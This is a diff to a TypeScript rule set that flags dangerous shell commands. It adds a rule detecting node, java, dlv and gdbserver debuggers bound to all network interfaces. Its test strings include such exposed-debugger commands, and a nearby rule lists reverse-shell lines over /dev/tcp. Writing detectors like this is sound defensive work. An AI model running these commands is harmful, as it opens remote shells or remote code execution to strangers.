@@ -101,6 +101,25 @@ function isRemoteUrl(text: string): boolean {
     : false;
 }
 
+const EVERYWHERE = /^(?:0\.0\.0\.0|\[?::\]?|\*|0)?:\d+$|^(?:0\.0\.0\.0|\[?::\]?|\*)$/;
+
+/** How debuggers are told where to listen; the first group is the address. */
+const DEBUGGERS: Readonly<Record<string, RegExp>> = {
+  node: /^--inspect(?:-brk|-wait|-port)?=(.+)$/,
+  deno: /^--inspect(?:-brk|-wait)?=(.+)$/,
+  java: /^-agentlib:jdwp=.*\baddress=([^,]+)/,
+  dlv: /^(?:--listen=|-l=?)(.+)$/,
+  gdbserver: /^(.*:\d+)$/,
+};
+
+/** A debugger that strangers can reach runs whatever they say. */
+function opensDebugger(call: Call): Hit {
+  const address = DEBUGGERS[call.program];
+  if (!address || call.frame.container) return false;
+  const hit = call.args.find(({ text }) => EVERYWHERE.test(address.exec(display(text))?.[1] ?? 'none'));
+  return hit ? fieldHit(hit) : false;
+}
+
 export const connectionRules: readonly Rule[] = [
   {
     id: 'net.metadata',
@@ -163,6 +182,24 @@ export const connectionRules: readonly Rule[] = [
     why: 'ties a shell to a connection',
     match: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'sh < /dev/tcp/h/1'],
     notMatch: ['bash -i', 'sh < script.sh', 'bash script.sh > out.log'],
+  },
+  {
+    id: 'net.debugger',
+    grade: 'dangerous',
+    programs: Object.keys(DEBUGGERS),
+    test: opensDebugger,
+    why: 'opens a debugger, which runs anything it is told, to the network',
+    match: [
+      'node --inspect=0.0.0.0:9229 a.js',
+      'java -agentlib:jdwp=transport=dt_socket,server=y,address=*:5005 -jar a.jar',
+      'gdbserver :1234 ./a',
+    ],
+    notMatch: [
+      'node --inspect a.js',
+      'node --inspect=127.0.0.1:9229 a.js',
+      'node --inspect=9230 a.js',
+      'gdbserver localhost:1234 ./a',
+    ],
   },
   {
     id: 'net.engine',
